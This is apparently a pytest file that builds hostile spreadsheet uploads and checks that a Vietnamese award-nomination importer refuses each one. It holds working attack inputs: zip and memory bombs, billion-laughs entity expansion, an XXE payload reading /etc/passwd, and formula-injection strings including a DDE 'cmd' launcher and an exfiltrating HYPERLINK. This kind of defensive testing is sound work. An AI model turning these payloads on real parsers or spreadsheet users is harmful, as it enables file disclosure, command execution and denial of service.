"""A corpus of hostile uploads, each through the real import path on both engines: refused with a clear Vietnamese
message naming the file (or, for hostile text inside an otherwise valid list, read as plain text), nothing written.

Every file is generated here, small in bytes (the largest is a few MB, in memory); what makes them hostile is what
they would become once opened: a 1.5 MB .xlsx whose one shared string lands in 5,000 cells asks calamine for 20 GB
and aborts the process (exit 134, no message) without `tdkt.importing.read_budget`. Such a file never reaches
calamine in the pytest process: the checks refuse it first, and `test_without_the_checks_calamine_takes_the_process
_down` shows, in a subprocess under a memory limit, what would happen otherwise. A few files also go through the
CLI as a subprocess (exit code 2, the message, the process alive to print it).
"""

from __future__ import annotations

import functools
import io
import json
import os
import random
import re
import resource
import string
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, replace

import pytest
import sqlalchemy as sa

from tdkt.core.db import write_session
from tdkt.core.permissions import COMMAND_LINE
from tdkt.importing.nomination_lists.pipeline import import_file
from tests.conftest import ROOT, SECRET, sqlite_copy
from tests.workbook_builders import (
    cfb,
    inline,
    ods,
    ods_text,
    patch_sizes,
    record,
    replace_member,
    xls,
    xlsx,
    zip_of,
)

MB = 1024 * 1024
VIETNAMESE = re.compile("[ạảãàáâậầấẩẫăằắặẳẵẹẻẽèéêềếệểễịỉĩìíọỏõòóôồốộổỗơờớợởỡụủũùúưừứựửữỳýỵỷỹđ]")
SST_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
HEADER = ["STT", "Họ và tên", "Giới tính", "Năm sinh", "Đơn vị", "Danh hiệu đề nghị"]


@functools.cache
def _letters(n: int, seed: int = 1) -> str:
    """n random ASCII letters: text that does not compress, as a real long text would not."""
    return "".join(random.Random(seed).choices(string.ascii_letters, k=n))


def _sst(*texts: str) -> str:
    items = "".join(f"<si><t>{t}</t></si>" for t in texts)
    return f'<?xml version="1.0"?><sst {SST_NS} uniqueCount="{len(texts)}">{items}</sst>'


def _refs(count: int, index: int = 0, cols: int = 1) -> str:
    """`count` cells showing shared string `index`, `cols` to a row."""
    letters = [chr(65 + c) for c in range(cols)]
    return "".join(
        f'<row r="{r}">' + "".join(f'<c r="{x}{r}" t="s"><v>{index}</v></c>' for x in letters) + "</row>"
        for r in range(1, count // cols + 1)
    )


def _many_small_cells(rows: int, cols: int) -> bytes:
    """rows × cols cells from B2, each showing one of 1,000 short shared strings (~30 bytes of XML a cell, deflated
    ~7:1); not starting at A1, the block is also copied once more by calamine."""
    letters = [chr(66 + c) if c < 25 else "A" + chr(65 + c - 25) for c in range(cols)]
    template = ('<row r="%d">' + "".join(f'<c r="{x}%d" t="s"><v>%d</v></c>' for x in letters) + "</row>").encode()
    compressor = zlib.compressobj(1, zlib.DEFLATED, -15)
    head = f'<?xml version="1.0"?><worksheet {SST_NS}><sheetData>'.encode()
    parts, size, crc = [compressor.compress(head)], len(head), zlib.crc32(head)
    for start in range(2, rows + 2, 2000):
        chunk = b"".join(template % ((r,) + tuple(v for c in range(cols) for v in (r, (r + c) % 1000)))
                         for r in range(start, min(start + 2000, rows + 2)))
        size, crc = size + len(chunk), zlib.crc32(chunk, crc)
        parts.append(compressor.compress(chunk))
    tail = b"</sheetData></worksheet>"
    size, crc = size + len(tail), zlib.crc32(tail, crc)
    parts.append(compressor.compress(tail) + compressor.flush())
    base = xlsx('<row r="1"><c r="A1"><v>1</v></c></row>', shared=_sst(*(f"s{i:03d}" for i in range(1000))))
    return replace_member(base, "xl/worksheets/sheet1.xml", b"".join(parts), size, crc)


def _list_xlsx(award: str, *, shared: bool = False, award_cell: str | None = None) -> bytes:
    """A one-row nomination list whose award cell holds `award` as text (inline, or a shared string), or is
    `award_cell` as written."""
    values = ["1", "Nguyễn Văn An", "Nam", "1985", "Văn phòng Sở", award]
    letters = "ABCDEF"
    header = "".join(inline(f"{x}4", h) for x, h in zip(letters, HEADER, strict=True))
    title = f'<row r="1">{inline("A1", "DANH SÁCH ĐỀ NGHỊ KHEN THƯỞNG NĂM 2024")}</row><row r="4">{header}</row>'
    if shared:
        cells = "".join(f'<c r="{x}5" t="s"><v>{i}</v></c>' for i, x in enumerate(letters))
        return xlsx(f'{title}<row r="5">{cells}</row>', shared=_sst(*map(_xml, values)))
    cells = [inline(f"{x}5", _xml(v)) for x, v in zip(letters, values, strict=True)]
    if award_cell is not None:
        cells[-1] = award_cell
    return xlsx(f'{title}<row r="5">{"".join(cells)}</row>')


def _ods_never_ending() -> bytes:
    good = ods(("A", f"<table:table-row>{ods_text('x')}</table:table-row>", False))
    with zipfile.ZipFile(io.BytesIO(good)) as src:
        members = {i.filename: src.read(i) for i in src.infolist()}
    members["content.xml"] = members["content.xml"].replace(b"</table:table>", b"</table:ta")
    return zip_of(members)


def _xml(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _list_ods(award: str) -> bytes:
    cells = "".join(ods_text(_xml(v)) for v in ["1", "Nguyễn Văn An", "Nam", "1985", "Văn phòng Sở", award])
    rows = (f"<table:table-row>{ods_text('DANH SÁCH ĐỀ NGHỊ KHEN THƯỞNG NĂM 2024')}</table:table-row>"
            f"<table:table-row>{''.join(ods_text(h) for h in HEADER)}</table:table-row>"
            f"<table:table-row>{cells}</table:table-row>")
    return ods(("Danh sách", rows, False))


def _list_xls(award: str) -> bytes:
    values = [1, "Nguyễn Văn An", "Nam", 1985, "Văn phòng Sở", award]
    cells = [(0, c, h) for c, h in enumerate(HEADER)] + [(1, c, v) for c, v in enumerate(values)]
    return xls(("Danh sách", cells, False))


def _styled_empty_rows(count: int) -> bytes:
    """A one-row list followed by `count` formatted, empty rows reaching far down, as a sheet formatted whole."""
    award = "Danh hiệu không có thật"
    values = ["1", "Nguyễn Văn An", "Nam", "1985", "Văn phòng Sở", award]
    head = "".join(inline(f"{x}1", h) for x, h in zip("ABCDEF", HEADER, strict=True))
    row = "".join(inline(f"{x}2", v) for x, v in zip("ABCDEF", values, strict=True))
    styled = "".join(f'<row r="{r}" s="1" customFormat="1"/>' for r in range(3, count + 3))
    return xlsx(f'<row r="1">{head}</row><row r="2">{row}</row>{styled}', before='<dimension ref="A1:XFD1048576"/>')


def _nested(depth: int) -> bytes:
    """A sheet whose one cell sits under `depth` nested unknown elements."""
    return xlsx("<x>" * depth + f'<row r="1">{inline("A1", "An")}</row>' + "</x>" * depth)


_LAUGHS = ('<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + "]>")


def _entity_bomb_sst() -> bytes:
    shared = f'<?xml version="1.0"?>{_LAUGHS}<sst {SST_NS}><si><t>&j;</t></si></sst>'
    return xlsx('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', shared=shared)


def _xxe() -> bytes:
    shared = (f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst {SST_NS}>'
              "<si><t>&x;</t></si></sst>")
    return xlsx('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', shared=shared)


def _entity_bomb_sheet() -> bytes:
    data = xlsx(f'<row r="1">{inline("A1", "&j;")}</row>')
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            payload = src.read(info)
            if info.filename.startswith("xl/worksheets/"):
                payload = payload.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0"?>' + _LAUGHS.encode())
            dst.writestr(info.filename, payload)
    return out.getvalue()


def _ods_entity_bomb() -> bytes:
    data = _list_ods("&j;")
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            payload = src.read(info)
            if info.filename == "content.xml":
                payload = payload.replace(b"&amp;j;", b"&j;").replace(b'<?xml version="1.0"?>',
                                                                     b'<?xml version="1.0"?>' + _LAUGHS.encode())
            dst.writestr(info.filename, payload)
    return out.getvalue()


def _inflating_past_declared() -> bytes:
    data = xlsx(f'<row r="1">{inline("A1", "An")}</row>' + " " * (2 * MB))
    return patch_sizes(data, "xl/worksheets/sheet1.xml", declared=2000)


def _ratio_bomb() -> bytes:
    return zip_of({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>",
                   "xl/worksheets/sheet1.xml": b" " * (30 * MB)})


def _many_members() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        z.writestr("xl/workbook.xml", "<workbook/>")
        for i in range(10_001):
            z.writestr(f"xl/media/{i}.bin", b"")
    return out.getvalue()


def _encrypted_member() -> bytes:
    data = bytearray(xlsx(f'<row r="1">{inline("A1", "An")}</row>'))
    pos = data.find(b"PK\x01\x02")
    while pos >= 0:  # set "encrypted" in every central directory entry (local headers are not read first)
        data[pos + 8] |= 1
        pos = data.find(b"PK\x01\x02", pos + 4)
    return bytes(data)


def _xls_shared_bomb(chars: int, refs: int) -> bytes:
    cells = [(r // 10, r % 10, ("sst", 0)) for r in range(refs)]
    return xls(("Danh sách", cells, False), shared=[_letters(chars)])


def _ods_spaces(count: int, repeat: int = 1) -> bytes:
    cell = (f'<table:table-cell office:value-type="string"'
            f'{" table:number-columns-repeated=" + chr(34) + str(repeat) + chr(34) if repeat > 1 else ""}>'
            f'<text:p>a<text:s text:c="{count}"/>b</text:p></table:table-cell>')
    return ods(("A", f"<table:table-row>{cell}</table:table-row>", False))


def _wide_emoji_sst(chars: int, refs: int) -> bytes:
    return xlsx(_refs(refs), shared=_sst("😀" + _letters(chars)))


@dataclass(frozen=True)
class Case:
    """One hostile upload and what must come of it."""

    id: str
    name: str
    build: Callable[[], bytes]
    code: str  # the issue code the report must carry first
    says: tuple[str, ...] = ()  # more text its message must hold
    upload_limit_mb: float | None = None


def _plain(award: str) -> tuple[str, ...]:
    return (f"“{award}”",)


_INJECTIONS = ['=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")', "=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|x",
               "@SUM(A1:A9)", "=2+2"]
_RTL = "Lao động tiên tiến\u202e nầy"

CASES = [
    # what the issue found: text that calamine copies into every cell that shows it
    Case("xlsx-shared-2mib-x5000", "chia_se_5000.xlsx",
         lambda: xlsx(_refs(5000, cols=5), shared=_sst(_letters(2 * MB))), "too_much_data",
         ("khoảng 5.000 ô", "giới hạn 640 MB")),
    Case("xlsx-shared-2mib-x300", "chia_se_300.xlsx", lambda: xlsx(_refs(300), shared=_sst(_letters(2 * MB))),
         "too_much_data", ("khoảng 300 ô",)),
    Case("xlsx-shared-emoji-x100", "emoji.xlsx", lambda: _wide_emoji_sst(1 * MB, 100), "too_much_data"),
    Case("xlsx-many-small-cells", "nhieu_o.xlsx", lambda: _many_small_cells(110_000, 30), "too_much_data",
         ("khoảng 3.300.000 ô",)),
    Case("ods-cell-repeated-5000", "lap_cot.ods",
         lambda: ods(("A", f"<table:table-row>{ods_text(_letters(2 * MB), repeat=5000)}</table:table-row>", False)),
         "too_much_data", ("trang tính “A”",)),
    Case("ods-row-repeated-300", "lap_dong.ods",
         lambda: ods(("A", f'<table:table-row table:number-rows-repeated="300">{ods_text(_letters(2 * MB))}'
                           "</table:table-row>", False)), "too_much_data"),
    Case("ods-text-s-billion-spaces", "khoang_trang.ods", lambda: _ods_spaces(1_000_000_000), "too_much_data"),
    Case("ods-text-s-repeated", "khoang_trang_lap.ods", lambda: _ods_spaces(1_000_000, repeat=1000),
         "too_much_data"),
    Case("xls-shared-64k-x12000", "chia_se.xls", lambda: _xls_shared_bomb(65_535, 12_000), "too_much_data"),
    # wrong type
    Case("pdf", "danh_sach.xlsx", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "not_spreadsheet", ("tệp PDF",)),
    Case("png", "anh.xlsx", lambda: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not_spreadsheet", ("ảnh",)),
    Case("csv", "danh_sach.csv", lambda: "STT;Họ và tên\n1;Nguyễn Văn An\n".encode(), "not_spreadsheet",
         ("CSV",)),
    Case("html", "bang.xls", lambda: b"<html><body><table><tr><td>1</td></tr></table></body></html>",
         "not_spreadsheet", ("trang HTML",)),
    Case("xml-2003", "bang.xml", lambda: b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:'
         b'spreadsheet"/>', "not_spreadsheet", ("XML 2003",)),
    Case("docx", "van_ban.xlsx", lambda: zip_of({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}),
         "not_spreadsheet", ("tài liệu Word",)),
    Case("plain-zip", "nen.xlsx", lambda: zip_of({"notes.txt": b"hello"}), "not_spreadsheet", ("ZIP",)),
    Case("doc", "van_ban.xls", lambda: cfb([("WordDocument", b"\x00" * 600)]), "not_spreadsheet", ("Word (.doc)",)),
    Case("xlsb", "nhi_phan.xlsb", lambda: zip_of({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"\x83"}),
         "unsupported", (".xlsb",)),
    Case("empty", "trong.xlsx", lambda: b"", "empty_file", ("0 byte",)),
    Case("too-large", "lon.xlsx", lambda: b"PK\x03\x04" + bytes(2 * MB), "too_large", ("giới hạn 1 MB",),
         upload_limit_mb=1),
    # damaged
    Case("truncated-start", "cat_dau.xlsx", lambda: xlsx(f'<row r="1">{inline("A1", "An")}</row>')[:400], "corrupt"),
    Case("truncated-end", "cat_cuoi.xlsx", lambda: xlsx(f'<row r="1">{inline("A1", "An")}</row>')[:-30], "corrupt"),
    Case("garbage-zip", "rac.xlsx", lambda: b"PK\x03\x04" + bytes(range(256)) * 4, "corrupt"),
    Case("garbage-ole", "rac.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 8, "corrupt"),
    Case("truncated-xls", "cat.xls", lambda: xls(("DS", [(0, 0, "An")], False))[:1000], "corrupt"),
    Case("bad-reference", "o_la.xlsx", lambda: xlsx('<row r="1"><c r="$A$1"><v>1</v></c></row>'), "corrupt"),
    Case("ods-table-never-ends", "bang_do.ods", _ods_never_ending, "corrupt"),
    Case("xls-calamine-panic", "hong.xls", lambda: xls(("DS", [(0, 0, "An")], False), extra=record(0x0017)),
         "corrupt"),
    Case("shared-strings-claim-4-billion", "sst.xlsx", lambda: xlsx(
        '<row r="1"><c r="A1" t="s"><v>0</v></c></row>',
        shared=f'<?xml version="1.0"?><sst {SST_NS} uniqueCount="4000000000"><si><t>An</t></si></sst>'), "corrupt"),
    Case("xls-dimensions-huge", "kich_thuoc.xls", lambda: xls(("DS", [(0, 0, "An")], False)).replace(
        struct.pack("<IIHHH", 0, 1, 0, 1, 0), struct.pack("<IIHHH", 0, 1_000_000, 0, 256, 0)), "corrupt"),
    # password
    Case("encrypted-xlsx", "mat_khau.xlsx", lambda: cfb([("EncryptionInfo", b"\x04\x00\x04\x00" + bytes(200)),
                                                         ("EncryptedPackage", bytes(5000))]), "encrypted"),
    Case("encrypted-xls", "mat_khau.xls", lambda: xls(("DS", [(0, 0, "An")], False), password=True), "encrypted"),
    Case("encrypted-ods", "mat_khau.ods", lambda: ods(("A", f"<table:table-row>{ods_text('x')}</table:table-row>",
                                                       False), encrypted=True), "encrypted"),
    Case("encrypted-zip-member", "ma_hoa.xlsx", _encrypted_member, "encrypted"),
    # zip bombs
    Case("declares-300-mb", "bom_khai.xlsx", lambda: patch_sizes(xlsx(f'<row r="1">{inline("A1", "An")}</row>'),
                                                                 "xl/worksheets/sheet1.xml", declared=300 * MB),
         "zip_bomb"),
    Case("inflates-past-declared", "bom_no.xlsx", _inflating_past_declared, "zip_bomb"),
    Case("ratio-over-100", "bom_ti_le.xlsx", _ratio_bomb, "zip_bomb"),
    Case("ten-thousand-members", "bom_tep.xlsx", _many_members, "zip_bomb"),
    # XML attacks: calamine expands no entity and fetches nothing
    Case("entity-expansion-shared-strings", "tiec_cuoi.xlsx", _entity_bomb_sst, "corrupt"),
    Case("entity-expansion-sheet", "tiec_cuoi_2.xlsx", _entity_bomb_sheet, "corrupt"),
    Case("entity-expansion-ods", "tiec_cuoi.ods", _ods_entity_bomb, "corrupt"),
    Case("xxe-file", "xxe.xlsx", _xxe, "corrupt"),
    Case("deeply-nested-xml", "long_nhau.xlsx", lambda: _nested(100_000), "no_header"),
    # shape
    Case("cell-at-xfd1048576", "o_cuoi.xlsx", lambda: xlsx(
        f'<row r="1">{inline("A1", "An")}</row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        "too_many_rows", ("200.000 dòng",)),
    Case("a1-and-xfd100000", "hai_o_xa.xlsx", lambda: xlsx(
        f'<row r="1">{inline("A1", "An")}</row><row r="100000"><c r="XFD100000"><v>1</v></c></row>'),
        "too_many_cells", ("XFD100000", "Ctrl+End")),
    Case("ods-16384-columns-100000-rows", "rong.ods", lambda: ods((
        "A", '<table:table-row table:number-rows-repeated="100000"><table:table-cell office:value-type="float" '
             'office:value="1" table:number-columns-repeated="16384"/></table:table-row>', False)),
        "too_many_cells"),
    Case("ods-million-rows", "dai.ods", lambda: ods(("A", '<table:table-row table:number-rows-repeated="1000000">'
                                                         f"{ods_text('x')}</table:table-row>", False)),
         "too_many_rows"),
    Case("million-styled-empty-rows", "dinh_dang.xlsx", lambda: _styled_empty_rows(1_000_000), "unknown_award",
         ("Danh hiệu không có thật",)),
    # hostile text inside an otherwise valid list: read as the text it is, never evaluated
    *[Case(f"formula-injection-{i}", f"cong_thuc_{i}.xlsx", functools.partial(_list_xlsx, text, shared=i % 2 == 1),
           "unknown_award", _plain(text)) for i, text in enumerate(_INJECTIONS[:5])],
    Case("formula-injection-ods", "cong_thuc.ods", functools.partial(_list_ods, "=1+1"), "unknown_award",
         _plain("=1+1")),
    Case("formula-injection-xls", "cong_thuc.xls", functools.partial(_list_xls, "=1+1"), "unknown_award",
         _plain("=1+1")),
    Case("cached-value-not-formula", "gia_tri.xlsx", functools.partial(
        _list_xlsx, "", award_cell='<c r="F5" t="str"><f>"Lao động tiên tiến"</f><v>=2+2</v></c>'),
        "unknown_award", _plain("=2+2")),
    Case("right-to-left-override", "rtl.xlsx", functools.partial(_list_xlsx, _RTL), "unknown_award"),
]
_BUILT: dict[str, bytes] = {}


def _data(case: Case) -> bytes:
    if case.id not in _BUILT:  # built once for both engines
        _BUILT[case.id] = case.build()
    return _BUILT[case.id]


def _row_counts(engine: sa.Engine) -> dict[str, int]:
    tables = sa.inspect(engine).get_table_names()
    with engine.connect() as conn:
        return {t: conn.execute(sa.text(f'SELECT COUNT(*) FROM "{t}"')).scalar_one() for t in tables}


def test_the_corpus_holds_forty_hostile_files_at_most_a_few_mb_each():
    assert len(CASES) >= 40 and len({c.id for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_file_gets_a_vietnamese_message_and_nothing_is_written(case, engine, settings):
    data = _data(case)
    assert len(data) <= 16 * MB  # built in memory, none written to disk; under the 20 MB upload limit
    if case.upload_limit_mb is not None:
        settings = replace(settings, upload_limit_mb=case.upload_limit_mb)
    before = _row_counts(engine)
    started = time.perf_counter()
    with write_session(engine) as session:
        report = import_file(session, COMMAND_LINE, data, file_name=case.name, settings=settings, year=2024)
    elapsed = time.perf_counter() - started
    assert elapsed < 10, f"{case.id} took {elapsed:.1f} s"
    assert _row_counts(engine) == before
    assert report.imported == 0 and report.batch_id is None
    first = next(i for i in report.issues if i.severity == "error")
    assert first.code == case.code, first.message
    assert VIETNAMESE.search(first.message), first.message
    if case.code in ("unknown_award",):
        assert report.rows and not report.unreadable  # read, checked, refused row by row
    else:
        assert report.unreadable and f"“{case.name}”" in first.message, first.message
    for text in case.says:
        assert text in first.message, first.message


def _limited(max_bytes: int):
    """A preexec_fn: the child may map at most `max_bytes` and writes no core file."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (max_bytes, max_bytes))
        resource.setrlimit(resource.RLIMIT_CORE, (0, 0))

    return limit


_CALAMINE_ALONE = """
import io, sys
from python_calamine import CalamineWorkbook
book = CalamineWorkbook.from_filelike(io.BytesIO(sys.stdin.buffer.read()))
book.get_sheet_by_index(0).to_python()
print("read")
"""


def test_without_the_checks_calamine_takes_the_process_down():
    """The 1.5 MB file of the issue, handed to calamine directly: it asks for ~20 GB and the process dies (Rust's
    allocator aborts; no Python exception to catch). Here under a 2 GiB limit, in a child process."""
    case = next(c for c in CASES if c.id == "xlsx-shared-2mib-x5000")
    done = subprocess.run([sys.executable, "-c", _CALAMINE_ALONE], input=_data(case), capture_output=True,
                          timeout=120, preexec_fn=_limited(2 << 30))
    assert done.returncode != 0 and b"read" not in done.stdout
    assert b"memory allocation" in done.stderr or done.returncode < 0, done.stderr[-500:]


_PEAK = """
import resource, subprocess, sys
done = subprocess.run(sys.argv[1:])
print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)
sys.exit(done.returncode)
"""


def test_the_cli_refuses_each_hostile_file_and_lives_to_say_so(tmp_path, sqlite_template):
    """`python -m tdkt import --dry-run` on four of the worst: exit code 2, each file's message, under 1 GiB."""
    chosen = ["xlsx-shared-2mib-x5000", "ods-text-s-billion-spaces", "xls-shared-64k-x12000", "ratio-over-100"]
    paths = []
    for case in (c for c in CASES if c.id in chosen):
        path = tmp_path / case.name
        path.write_bytes(_data(case))
        paths.append((case, path))
    env = {**os.environ, "TDKT_DATABASE_URL": sqlite_copy(sqlite_template, tmp_path), "TDKT_SECRET_KEY": SECRET}
    started = time.perf_counter()
    done = subprocess.run([sys.executable, "-c", _PEAK, sys.executable, "-m", "tdkt", "import", "--dry-run",
                           "--json", *(str(p) for _, p in paths)], cwd=ROOT, env=env, capture_output=True,
                          text=True, timeout=120, preexec_fn=_limited(4 << 30))
    elapsed = time.perf_counter() - started
    assert done.returncode == 2, done.stderr[-2000:]
    reports = [json.loads(line) for line in done.stdout.splitlines()]
    assert [r["file"] for r in reports] == [p.name for _, p in paths]
    for (case, _), report in zip(paths, reports, strict=True):
        assert report["imported"] == 0 and report["errors"][0]["code"] == case.code
        assert f"“{case.name}”" in report["errors"][0]["message"]
    peak_kib = int(done.stderr.strip().splitlines()[-1])
    assert peak_kib < 1024 * 1024, f"peak {peak_kib // 1024} MB"
    assert elapsed < 60
